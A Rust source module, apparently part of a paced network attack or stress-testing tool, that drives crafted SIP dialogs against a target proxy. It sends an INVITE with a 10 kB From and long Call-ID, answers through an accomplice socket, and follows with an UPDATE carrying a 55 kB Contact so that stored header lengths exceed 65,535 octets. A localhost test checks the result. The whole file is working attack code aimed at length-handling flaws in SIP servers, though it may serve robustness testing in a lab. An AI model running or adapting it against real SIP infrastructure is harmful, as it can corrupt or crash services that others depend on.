//! SIP dialogs that grow past 65,535 octets in two messages: an INVITE with a long From and a long
//! Call-ID, answered by an accomplice; then an UPDATE with a short From and a Contact of 55 kB;
//! then one more request, which looks at what is left of the names.

use crate::sockets::{Pace, SocketAttack};
use anyhow::Context;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

/// Octets of the user in the first From, and of the first Call-ID.
const FROM_OCTETS: usize = 10_000;
const CALL_ID_OCTETS: usize = 1_000;
/// Octets of the user in the later Contact.
const CONTACT_OCTETS: usize = 55_000;
/// Time for an answer.
const PATIENCE: Duration = Duration::from_millis(300);
const DATAGRAM_MAX: usize = 65_535;
/// Messages that are looked at for the one that is waited for.
const LOOKS_MAX: usize = 8;

/// One who calls, and the one who answers him.
struct Ends {
    caller: UdpSocket,
    answerer: UdpSocket,
    source: SocketAddrV4,
    target: SocketAddrV4,
}

fn socket(at: SocketAddrV4) -> anyhow::Result<UdpSocket> {
    let socket = UdpSocket::bind(at).with_context(|| at.to_string())?;
    socket.set_read_timeout(Some(PATIENCE))?;
    Ok(socket)
}

/// The value of a header of a message; the first one.
fn header<'a>(message: &'a str, name: &str) -> Option<&'a str> {
    let line = message.lines().find(|line| {
        line.get(..name.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(name))
            && line[name.len()..].trim_start().starts_with(':')
    })?;
    line.split_once(':').map(|(_, value)| value.trim())
}

/// The next message that begins so.
fn wait(socket: &UdpSocket, begin: &str, bytes: &mut [u8]) -> Option<(String, SocketAddr)> {
    for _ in 0..LOOKS_MAX {
        let (length, from) = socket.recv_from(bytes).ok()?;
        let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
        if text.starts_with(begin) {
            return Some((text, from));
        }
    }
    None
}

/// The accomplice's 200.
fn accept(request: &str, contact: SocketAddrV4) -> String {
    let mut answer = String::from("SIP/2.0 200 OK\r\n");
    for line in request.lines().take_while(|line| !line.is_empty()) {
        let name = line.split(':').next().unwrap_or_default().trim().to_ascii_lowercase();
        match name.as_str() {
            "via" | "record-route" | "from" | "call-id" | "cseq" => {
                answer.push_str(line);
                answer.push_str("\r\n");
            }
            "to" => {
                answer.push_str(line);
                answer.push_str(";tag=accomplice\r\n");
            }
            _ => {}
        }
    }
    answer + &format!("Contact: <sip:b@{contact}>\r\nContent-Length: 0\r\n\r\n")
}

impl Ends {
    /// A request of the caller. `to` is the To as it is known.
    fn request(&self, method: &str, cseq: u32, names: [&str; 4], number: u64) -> Vec<u8> {
        let Self { source, target, .. } = self;
        let [from, to, call_id, contact] = names;
        format!(
            "{method} sip:b@{target} SIP/2.0\r\n\
            Via: SIP/2.0/UDP {source};rport;branch=z9hG4bKo{number}m{cseq}{method}\r\n\
            Max-Forwards: 70\r\nFrom: <sip:{from}@lab>;tag=over\r\nTo: {to}\r\n\
            Call-ID: {call_id}\r\nCSeq: {cseq} {method}\r\nContact: <sip:{contact}@{source}>\r\n\
            Content-Length: 0\r\n\r\n"
        )
        .into_bytes()
    }

    /// One dialog. Octets that were sent; how far it comes is the target's to say.
    fn dialog(&self, number: u64, bytes: &mut [u8]) -> usize {
        let call_id = format!("{number}-{}", "c".repeat(CALL_ID_OCTETS));
        let (long, contact) = ("f".repeat(FROM_OCTETS), "g".repeat(CONTACT_OCTETS));
        let mut octets = 0;
        let mut send = |message: Vec<u8>| {
            octets += self.caller.send_to(&message, self.target).unwrap_or_default();
        };
        let first = [&*long, "<sip:b@lab>", &*call_id, "a"];
        send(self.request("INVITE", 1, first, number));
        if let Some((invite, from)) = wait(&self.answerer, "INVITE ", bytes)
            && let Ok(SocketAddr::V4(own)) = self.answerer.local_addr()
        {
            // Who is gone meanwhile is not answered.
            let _ = self.answerer.send_to(accept(&invite, own).as_bytes(), from);
        }
        if let Some((answer, _)) = wait(&self.caller, "SIP/2.0 2", bytes)
            && let Some(to) = header(&answer, "To")
        {
            let named = |contact| ["f", to, &*call_id, contact];
            send(self.request("ACK", 1, [&*long, to, &*call_id, "a"], number));
            for (method, cseq, contact) in [("UPDATE", 2, &*contact), ("INFO", 3, "a")] {
                send(self.request(method, cseq, named(contact), number));
                if let Some((update, from)) = wait(&self.answerer, method, bytes)
                    && let Ok(SocketAddr::V4(own)) = self.answerer.local_addr()
                {
                    let _ = self.answerer.send_to(accept(&update, own).as_bytes(), from);
                }
            }
            send(self.request("BYE", 4, named("a"), number));
        }
        octets
    }
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let answerer = socket(attack.other()?)?;
    let source: Ipv4Addr = attack.sources.pick(1);
    let caller = socket(SocketAddrV4::new(source, 0))?;
    let SocketAddr::V4(source) = caller.local_addr()? else {
        anyhow::bail!("no address of version 4")
    };
    let ends = Ends { caller, answerer, source, target: attack.target };
    let (mut number, mut bytes) = (0, vec![0; DATAGRAM_MAX]);
    while let Some(due) = pace.due() {
        for _ in 0..due.min(1) {
            number += 1;
            pace.sent(ends.dialog(number, &mut bytes));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicBool, Ordering::Relaxed};

    /// Method, and octets of From, Contact and Call-ID.
    type Seen = (String, [usize; 3]);

    /// A proxy that knows nobody: what the one says goes to the other. What it saw of the caller.
    fn pass_on(target: &UdpSocket, answerer: SocketAddr, is_over: &AtomicBool) -> Vec<Seen> {
        let (mut bytes, mut seen, mut caller) = (vec![0; DATAGRAM_MAX], Vec::new(), None);
        while !is_over.load(Relaxed) {
            let Ok((length, from)) = target.recv_from(&mut bytes) else { continue };
            assert_eq!(sip::frame(&bytes[..length]), sip::Framing::Message(length));
            let to = if from == answerer { caller.unwrap() } else { answerer };
            if from != answerer {
                caller = Some(from);
                let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
                let method = text.split(' ').next().unwrap().to_owned();
                let octets = |name| header(&text, name).unwrap().len();
                seen.push((method, ["From", "Contact", "Call-ID"].map(octets)));
            }
            target.send_to(&bytes[..length], to).unwrap();
        }
        seen
    }

    #[test]
    fn a_target_that_passes_all_on_sees_names_that_grow_past_two_octets() {
        let bound = || socket("127.0.0.1:0".parse().unwrap()).unwrap();
        let version_4 = |socket: &UdpSocket| match socket.local_addr().unwrap() {
            SocketAddr::V4(address) => address,
            SocketAddr::V6(_) => panic!("an address of version 4"),
        };
        let (target, caller, answerer) = (bound(), bound(), bound());
        let ends = Ends {
            source: version_4(&caller),
            target: version_4(&target),
            caller,
            answerer: answerer.try_clone().unwrap(),
        };
        let is_over = AtomicBool::new(false);
        let seen = std::thread::scope(|scope| {
            let proxy = scope.spawn(|| pass_on(&target, answerer.local_addr().unwrap(), &is_over));
            let mut bytes = vec![0; DATAGRAM_MAX];
            // On a busy machine an answer may be too late: the next dialog is another one.
            let whole = (0..20).any(|number| ends.dialog(number, &mut bytes) > 70_000);
            is_over.store(true, Relaxed);
            assert!(whole);
            proxy.join().unwrap()
        });
        let of = |method: &str| seen.iter().find(|(it, _)| it == method).unwrap().1;
        let [from, _, call_id] = of("INVITE");
        let [short, contact, _] = of("UPDATE");
        assert!(from > FROM_OCTETS && call_id > CALL_ID_OCTETS && short < 100);
        assert!(from + contact > usize::from(u16::MAX) - CALL_ID_OCTETS);
        assert!(of("INFO")[1] < 100);
    }
}
